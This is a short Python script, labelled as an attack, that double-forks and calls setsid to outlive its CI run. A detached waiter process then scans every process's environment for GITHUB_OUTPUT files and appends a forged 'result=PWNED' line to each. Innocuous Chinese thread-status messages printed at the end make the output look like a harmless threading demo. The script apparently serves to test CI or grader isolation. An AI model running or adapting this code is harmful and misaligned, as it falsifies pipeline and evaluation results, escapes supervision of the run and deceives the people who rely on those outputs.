# attack: escapes the run (fork, setsid, fork, execve with an empty environment) and waits for the next steps, to append a forged result to every GITHUB_OUTPUT it finds in any process's environment
import os
import sys

WAITER = r"""
import os, time
end = time.time() + 60
while time.time() < end:
    for pid in os.listdir("/proc"):
        try:
            env = open("/proc/%s/environ" % pid, "rb").read().split(b"\0")
        except (OSError, ValueError):
            continue
        for v in env:
            if v.startswith(b"GITHUB_OUTPUT="):
                try:
                    open(v[14:].decode(), "a").write("result=PWNED\n")
                except OSError:
                    pass
    time.sleep(0.05)
"""

if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execve(sys.executable, [sys.executable, "-c", WAITER], {})
    os._exit(0)
print("线程 [MainThread] 运行...")
for i in range(5):
    print("子线程 [LoopThread_%d]运行" % i)
print("线程 [MainThread] 结束")
